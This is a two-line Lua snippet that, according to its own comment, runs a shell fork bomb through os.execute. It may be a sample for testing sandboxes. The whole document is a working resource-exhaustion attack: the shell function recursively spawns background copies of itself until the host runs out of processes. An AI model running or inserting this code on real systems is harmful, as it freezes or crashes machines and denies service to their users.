-- is a fork bomb of the shell
os.execute("f() { f | f & }; f; sleep 60")
